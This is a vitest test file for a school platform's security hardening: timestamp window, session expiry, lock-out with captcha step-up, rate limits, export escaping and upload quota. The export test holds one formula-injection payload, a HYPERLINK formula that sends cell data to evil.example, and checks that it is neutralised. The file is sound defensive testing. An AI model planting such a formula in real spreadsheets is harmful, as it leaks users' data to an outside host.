/**
 * Issue 14 defect 7, the smaller security gaps: the Authorization timestamp window, sliding session
 * expiry, lock-out per (account, client) with the captcha step-up, wrong old passwords at
 * /modify/password, rate limits answering 10029 in the envelope, formula-leading export cells and
 * the per-school upload quota. Clients are told apart by the inject's remoteAddress.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { encodeParams } from '../../common/codec.js';
import type { Envelope } from '../../common/envelope.js';
import type { UploadedFile } from '../../common/activities.js';
import { STEP_UP_MESSAGE } from '../../server/modules/session/service.js';
import { quotaMessage } from '../../server/modules/files/service.js';
import { ACCOUNTS, call, credential, fileApp, makeApp, readEnvelope, signInAs, TEST_CAPTCHA, type TestApp } from './helpers.js';
import { getFile, uploadEnvelope, waitJob } from './student-helpers.js';

const TOO_FREQUENT = /^操作过于频繁,请\d+秒后再试$/;
const LOCKED = /^密码错误次数过多,账号已锁定,请\d+分钟后再试$/;
const NEW = 'Better#Pass2024';
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d5b3a40000000049454e44ae426082',
  'hex',
);

/** Requests from one client address, spoken as the shared client speaks them. */
function client(app: () => TestApp, ip: string) {
  const url = (p: string, params: object) => `/api${p}?params=${encodeURIComponent(encodeParams(app().codec, params))}`;
  const auth = (token?: string): Record<string, string> => (token ? { authorization: credential(app().codec, token) } : {});
  return {
    async get<T = unknown>(p: string, params: object = {}, token?: string): Promise<Envelope<T>> {
      const res = await app().app.inject({ method: 'GET', url: url(p, params), remoteAddress: ip, headers: auth(token) });
      expect(res.statusCode).toBe(200);
      return readEnvelope<T>(res, app().codec);
    },
    async post<T = unknown>(p: string, params: object = {}, token?: string): Promise<Envelope<T>> {
      const res = await app().app.inject({
        method: 'POST',
        url: `/api${p}`,
        remoteAddress: ip,
        headers: { ...auth(token), 'content-type': 'application/x-www-form-urlencoded' },
        payload: `params=${encodeURIComponent(encodeParams(app().codec, params))}`,
      });
      expect(res.statusCode).toBe(200);
      return readEnvelope<T>(res, app().codec);
    },
    async captcha(): Promise<{ uuid: string; code: string }> {
      const env = await this.get<{ uuid: string; code: string }>('/common/login/verificationcode');
      expect(env.code, env.msg).toBe(0);
      return env.data;
    },
    /** GET /token with a fresh captcha answered with the test code. */
    async signIn(username: string, password: string, schoolId = 10001): Promise<Envelope<{ access_token: string }>> {
      const { uuid } = await this.captcha();
      return this.get('/token', { uuid, schoolId, username, password, captcha: TEST_CAPTCHA });
    },
  };
}

const pngWidth = (base64: string) => Buffer.from(base64, 'base64').readUInt32BE(16);

const t = await fileApp();
const from = (ip: string) => client(() => t, ip);

describe('the Authorization timestamp', () => {
  const decimal = (authorization: string) => call(t, 'GET', '/system/decimal', {}, null, { authorization });
  const json = (token: string, timestamp: unknown) => t.codec.encode(JSON.stringify({ token, platform: 3, timestamp }));

  it('is accepted within 10 minutes of the server clock, and 10001 outside or when missing', async () => {
    const token = await signInAs(t, 'admin');
    const now = Date.now();
    expect((await decimal(json(token, now))).code).toBe(0);
    expect((await decimal(json(token, now - 9 * 60_000))).code).toBe(0);
    expect((await decimal(json(token, String(now + 60_000)))).code).toBe(0);
    expect(await decimal(json(token, now - 11 * 60_000))).toMatchObject({ code: 10001, msg: '登录已失效,请重新登录' });
    expect((await decimal(json(token, now + 11 * 60_000))).code).toBe(10001);
    expect((await decimal(t.codec.encode(JSON.stringify({ token, platform: 3 })))).code).toBe(10001);
    expect((await decimal(json(token, 'yesterday'))).code).toBe(10001);
    // The stale header did not end the session.
    expect((await decimal(json(token, Date.now()))).code).toBe(0);
  });

  it('does not apply to the bare token forms, which carry none', async () => {
    const token = await signInAs(t, 'admin');
    expect((await decimal(token)).code).toBe(0);
    expect((await decimal(`Bearer ${token}`)).code).toBe(0);
    expect((await call(t, 'GET', '/system/decimal', {}, null, { authorization: '', headers: { token } })).code).toBe(0);
  });
});

describe('sliding session expiry', () => {
  it('keeps a session in use alive past SESSION_IDLE_MINUTES, and ends it after that long unused', async () => {
    const token = await signInAs(t, 'teacher');
    const idle = t.config.sessionIdleMinutes;
    const start = Date.now();
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      // A request every 0.8 × idle for 3 × idle in all.
      for (let used = 0.8; used <= 3; used += 0.8) {
        vi.setSystemTime(start + used * idle * 60_000);
        expect((await call(t, 'GET', '/system/decimal', {}, token)).code, `after ${used} × idle`).toBe(0);
      }
      const last = Date.now();
      vi.setSystemTime(last + (idle - 1) * 60_000);
      expect((await call(t, 'GET', '/system/decimal', {}, token)).code).toBe(0);
      vi.setSystemTime(Date.now() + (idle + 1) * 60_000);
      expect((await call(t, 'GET', '/system/decimal', {}, token)).code).toBe(10001);
    } finally {
      vi.useRealTimers();
    }
  });

  it('writes last_seen_at at most once a minute', async () => {
    const token = await signInAs(t, 'admin');
    const session = await t.db.selectFrom('sessions').select(['id', 'lastSeenAt']).orderBy('id', 'desc').limit(1).executeTakeFirstOrThrow();
    for (let i = 0; i < 3; i++) expect((await call(t, 'GET', '/system/decimal', {}, token)).code).toBe(0);
    const after = await t.db.selectFrom('sessions').select('lastSeenAt').where('id', '=', session.id).executeTakeFirstOrThrow();
    expect(after.lastSeenAt.getTime()).toBe(session.lastSeenAt.getTime());
  });
});

describe('lock-out per account and client', () => {
  it('five wrong passwords from client A lock A out of the account, not client B', async () => {
    const a = from('10.0.0.1');
    const b = from('10.0.0.2');
    for (let i = 1; i <= 4; i++) expect((await a.signIn('t1002', `Wrong@${i}`)).code).toBe(20002);
    const fifth = await a.signIn('t1002', 'Wrong@5');
    expect(fifth.code).toBe(20004);
    expect(fifth.msg).toMatch(LOCKED);
    expect(fifth.msg).toContain('30分钟');
    // A stays locked even with the right password.
    expect((await a.signIn('t1002', 'Teacher@123456')).code).toBe(20004);
    // B was never locked: the owner still signs in, and A's lock holds afterwards.
    expect((await b.signIn('t1002', 'Teacher@123456')).code).toBe(0);
    expect((await a.signIn('t1002', 'Teacher@123456')).code).toBe(20004);
  });

  it('a failure of A does not count for B: B has five attempts of its own', async () => {
    const a = from('10.0.2.1');
    const b = from('10.0.2.2');
    for (let i = 1; i <= 3; i++) expect((await a.signIn('nobody-here', `Wrong@${i}`)).code).toBe(20002);
    for (let i = 1; i <= 4; i++) expect((await b.signIn('nobody-here', `Wrong@${i}`)).code).toBe(20002);
    expect((await b.signIn('nobody-here', 'Wrong@5')).code).toBe(20004);
    expect((await a.signIn('nobody-here', 'Wrong@4')).code).toBe(20002);
  });

  it('an account wrongly tried from many clients asks for a strong captcha instead of locking everyone out', async () => {
    const who = 't1003';
    for (const ip of ['10.0.1.1', '10.0.1.2']) {
      const attacker = from(ip);
      for (let i = 1; i <= 5; i++) await attacker.signIn(who, `Wrong@${i}`);
    }
    const owner = from('10.0.1.3');
    const first = await owner.captcha();
    expect(pngWidth(first.code)).toBe(120);
    const refused = await owner.get('/token', { uuid: first.uuid, schoolId: 10001, username: who, password: 'Teacher@123456', captcha: TEST_CAPTCHA });
    expect(refused).toMatchObject({ code: 20003, msg: STEP_UP_MESSAGE });
    // The sign-in page fetches a new captcha after a failure: now a strong one, 6 characters on 150×40.
    const strong = await owner.captcha();
    expect(pngWidth(strong.code)).toBe(150);
    const row = await t.db.selectFrom('captchas').select(['code', 'strong']).where('uuid', '=', strong.uuid).executeTakeFirstOrThrow();
    expect(row).toMatchObject({ strong: true });
    expect(row.code).toHaveLength(6);
    const ok = await owner.get<{ access_token: string }>('/token', { uuid: strong.uuid, schoolId: 10001, username: who, password: 'Teacher@123456', captcha: row.code });
    expect(ok.code, ok.msg).toBe(0);
    // Other accounts are not affected: an ordinary captcha still signs in to them.
    expect((await from('10.0.1.4').signIn('t1004', 'Teacher@123456')).code).toBe(0);
  });

  it('counts wrong old passwords at /modify/password: five from one client lock that client only', async () => {
    const a = from('10.0.3.1');
    const b = from('10.0.3.2');
    const token = (await b.signIn('t1005', 'Teacher@123456')).data.access_token;
    const change = (c: typeof a, old: string) => c.post('/modify/password', { old, newPass: NEW, confirm: NEW }, token);
    for (let i = 1; i <= 4; i++) expect(await change(a, `Wrong@${i}`)).toMatchObject({ code: 20002, msg: '原密码错误' });
    const fifth = await change(a, 'Wrong@5');
    expect(fifth.code).toBe(20004);
    expect(fifth.msg).toMatch(LOCKED);
    expect((await change(a, 'Teacher@123456')).code).toBe(20004);
    expect((await a.signIn('t1005', 'Teacher@123456')).code).toBe(20004);
    expect((await change(b, 'Wrong@6')).code).toBe(20002);
    expect((await change(b, 'Teacher@123456')).code).toBe(0);
    // The change forgot the guesses: A may sign in with the new password.
    expect((await a.signIn('t1005', NEW)).code).toBe(0);
  });
});

describe('exports', () => {
  it("write a formula-leading name as text with a leading quote, and numbers as numbers", async () => {
    const admin = await signInAs(t, 'admin');
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
    const student = await t.db.selectFrom('students').select(['userId', 'code']).where('schoolId', '=', 10001).where('code', '=', ACCOUNTS.student.username).executeTakeFirstOrThrow();
    await t.db.updateTable('users').set({ name: evil }).where('id', '=', student.userId).execute();
    await t.db.updateTable('students').set({ hours: '-2.50' }).where('userId', '=', student.userId).execute();
    const start = await call<{ id: string }>(t, 'POST', '/school/student/export', { code: student.code }, admin);
    expect(start.code, start.msg).toBe(0);
    expect((await waitJob(t, start.data.id, admin)).status).toBe('done');
    const res = await getFile(t, '/jobs/download', { id: start.data.id }, admin);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = (title: string) => sheet.getRow(2).getCell(header.indexOf(title) + 1);
    expect(cell('姓名').type).toBe(ExcelJS.ValueType.String);
    expect(cell('姓名').value).toBe(`'${evil}`);
    expect(cell('学号').value).toBe(student.code);
    expect(cell('学时').type).toBe(ExcelJS.ValueType.Number);
    expect(cell('学时').value).toBe(-2.5);
  });
});

describe('with tight limits', () => {
  let tight: TestApp;
  let dataDir: string;
  beforeAll(async () => {
    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'sc-hardening-'));
    tight = await makeApp({
      config: {
        dataDir,
        credentialWindowMinutes: 30,
        uploadQuotaMb: 1,
        rateLimits: {
          captcha: { client: 3, account: 0, windowSeconds: 60 },
          token: { client: 4, account: 2, windowSeconds: 60 },
          sms: { client: 2, account: 1, windowSeconds: 600 },
          password: { client: 100, account: 2, windowSeconds: 60 },
        },
      },
    });
  });
  afterAll(async () => {
    await tight.close();
    fs.rmSync(dataDir, { recursive: true, force: true });
  });
  const at = (ip: string) => client(() => tight, ip);

  it('the captcha answers 10029 in the envelope past the client limit; another client is served', async () => {
    const a = at('10.9.0.1');
    for (let i = 0; i < 3; i++) await a.captcha();
    const limited = await a.get('/common/login/verificationcode');
    expect(limited.code).toBe(10029);
    expect(limited.msg).toMatch(TOO_FREQUENT);
    expect(limited.data).toBeNull();
    expect((await at('10.9.0.2').get('/common/login/verificationcode')).code).toBe(0);
  });

  it('/token is limited per client, and per account once the captcha is right', async () => {
    const a = at('10.9.1.1');
    const attempt = (c: ReturnType<typeof at>, uuid: string, username: string) =>
      c.get('/token', { uuid, schoolId: 10001, username, password: 'Wrong@1', captcha: TEST_CAPTCHA });
    for (let i = 0; i < 4; i++) expect((await attempt(a, '00000000-0000-0000-0000-000000000000', 'x')).code).toBe(20003);
    expect((await attempt(a, '00000000-0000-0000-0000-000000000000', 'x')).msg).toMatch(TOO_FREQUENT);

    // Wrong captchas do not use up the account's allowance: nobody can block a sign-in for free.
    for (let i = 0; i < 3; i++) expect((await attempt(at(`10.9.2.${i}`), '00000000-0000-0000-0000-000000000000', 't1006')).code).toBe(20003);
    const tries = [];
    for (let i = 0; i < 3; i++) {
      const c = at(`10.9.3.${i}`);
      tries.push((await attempt(c, (await c.captcha()).uuid, 't1006')).code);
    }
    expect(tries).toEqual([20002, 20002, 10029]);
    const other = at('10.9.3.9');
    expect((await attempt(other, (await other.captcha()).uuid, 't1007')).code).toBe(20002);
  });

  it('SMS codes are limited per mobile and per client', async () => {
    const sms = (c: ReturnType<typeof at>, mobile: string) => c.post('/common/captcha/mobile', { countryCode: '86', mobile, type: 2, schoolId: 10001 });
    expect((await sms(at('10.9.4.1'), '13900000001')).code).toBe(0);
    expect((await sms(at('10.9.4.2'), '13900000001')).msg).toMatch(TOO_FREQUENT);
    const c = at('10.9.4.3');
    expect((await sms(c, '13900000002')).code).toBe(0);
    expect((await sms(c, '13900000003')).code).toBe(0);
    expect(await sms(c, '13900000004')).toMatchObject({ code: 10029 });
  });

  it('/modify/password is limited per user', async () => {
    const a = at('10.9.5.1');
    const token = (await a.signIn(ACCOUNTS.teacher.username, ACCOUNTS.teacher.password)).data.access_token;
    const change = (c: ReturnType<typeof at>) => c.post('/modify/password', { old: 'Wrong@1', newPass: NEW, confirm: NEW }, token);
    expect((await change(a)).code).toBe(20002);
    expect((await change(at('10.9.5.2'))).code).toBe(20002);
    expect((await change(at('10.9.5.3'))).msg).toMatch(TOO_FREQUENT);
  });

  it('takes the timestamp window from the configuration', async () => {
    const token = (await at('10.9.6.1').signIn('admin', 'Admin@123456')).data.access_token;
    const old = tight.codec.encode(JSON.stringify({ token, platform: 3, timestamp: Date.now() - 20 * 60_000 }));
    expect((await call(tight, 'GET', '/system/decimal', {}, null, { authorization: old })).code).toBe(0);
  });

  it('refuses an upload past the school quota with 10002, stores nothing, and other schools still upload', async () => {
    const admin = (await at('10.9.7.1').signIn('admin', 'Admin@123456')).data.access_token;
    const image = (token: string) => uploadEnvelope<UploadedFile>(tight, '/upload/image', [{ name: 'a.png', content: PNG, type: 'image/png' }], {}, token);
    expect((await image(admin)).code).toBe(0);
    const used = await tight.db.selectFrom('files').select(['storageKey']).where('schoolId', '=', 10001).executeTakeFirstOrThrow();
    // Fill the school up to a few bytes under 1 MB.
    await tight.db.updateTable('files').set({ size: 1024 * 1024 - 10 }).where('storageKey', '=', used.storageKey).execute();
    const stored = fs.readdirSync(path.join(dataDir, 'files')).length;
    expect(await image(admin)).toMatchObject({ code: 10002, msg: quotaMessage(1) });
    expect(fs.readdirSync(path.join(dataDir, 'files'))).toHaveLength(stored);
    expect(await tight.db.selectFrom('files').select('id').where('schoolId', '=', 10001).execute()).toHaveLength(1);
    const admin2 = (await at('10.9.7.2').signIn('admin', 'Admin@123456', 10002)).data.access_token;
    expect((await image(admin2)).code).toBe(0);
  });
});
